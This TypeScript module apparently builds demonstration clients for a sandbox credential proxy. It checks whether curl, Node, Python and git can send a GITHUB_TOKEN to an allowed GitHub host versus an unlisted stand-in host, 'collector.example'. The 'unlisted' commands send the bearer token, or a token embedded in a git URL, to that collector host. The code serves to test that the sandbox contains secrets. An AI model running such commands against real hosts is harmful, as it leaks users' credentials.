import { join } from 'node:path';
import { whyNotInside } from '../../e2e/harness/tools.ts';

/** A client of the demonstration, as shell text that runs in the sandbox. */
export interface DemoClient {
  readonly name: string;
  /** Why it cannot run here; undefined when it can. */
  readonly missing: string | undefined;
  /** Further options of `sallyport run`. */
  readonly options: readonly string[];
  /** Prints the answer of an API that repeats the credential it got. */
  readonly echo: string;
  /** Prints what a host that nobody allowed answers. */
  readonly unlisted: string;
}

/** Names that the local server stands for. */
export const API_HOST = 'api.github.com';
export const GIT_HOST = 'github.com';
/** Nobody allowed this one; it does not exist either, and is never looked up. */
export const UNLISTED_HOST = 'collector.example';
/** The environment variable that holds the credential outside, and its placeholder inside. */
export const VARIABLE = 'GITHUB_TOKEN';

const NODE_SCRIPT = `
const answer = await fetch(process.argv[1], { headers: { authorization: 'Bearer ' + process.env.${VARIABLE} } });
console.log(answer.status, await answer.text());`;

const PYTHON_SCRIPT = `
import os, sys, urllib.error, urllib.request
request = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["${VARIABLE}"]})
try:
    answer = urllib.request.urlopen(request)
except urllib.error.HTTPError as error:
    answer = error
print(answer.status, answer.read().decode())`;

function needed(name: string, package_: string): string | undefined {
  const reason = whyNotInside(name);
  return reason === undefined ? undefined : `${reason}; install it: apt-get install ${package_}`;
}

/** The clients of the demonstration; `repositoryPath` is what git clones from `GIT_HOST`, `nodePath` the Node to run inside. */
export function listClients(repositoryPath: string, nodePath: string): DemoClient[] {
  const curl = `curl -sS -w ' %{http_code}\\n' -H "Authorization: Bearer $${VARIABLE}"`;
  const nodeIsInside = nodePath.startsWith('/usr/');
  const node = `${nodeIsInside ? 'node' : '/node/node'} --input-type=module -e '${NODE_SCRIPT.replaceAll("'", '"')}'`;
  const python = `/usr/bin/python3 -c '${PYTHON_SCRIPT}'`;
  const git = `git -c advice.detachedHead=false`;
  const withPassword = `https://x-access-token:$${VARIABLE}@`;
  const bothUrls = (command: string): { echo: string; unlisted: string } => ({
    echo: `${command} https://${API_HOST}/user`,
    unlisted: `${command} https://${UNLISTED_HOST}/`,
  });
  return [
    { name: 'curl', missing: needed('curl', 'curl'), options: [], ...bothUrls(curl) },
    {
      name: 'Node fetch',
      missing: undefined,
      options: nodeIsInside ? [] : ['-v', `${join(nodePath, '..')}:/node:ro`],
      ...bothUrls(node),
    },
    { name: 'Python urllib', missing: needed('python3', 'python3'), options: [], ...bothUrls(python) },
    {
      name: 'git clone',
      missing: needed('git', 'git'),
      options: [],
      echo:
        `${git} clone -q "${withPassword}${GIT_HOST}${repositoryPath}" clone && cat clone/hello.txt && ` +
        `{ ${git} ls-remote "${withPassword}${GIT_HOST}/refuse"; true; }`,
      unlisted: `${git} ls-remote "${withPassword}${UNLISTED_HOST}/x.git"`,
    },
  ];
}
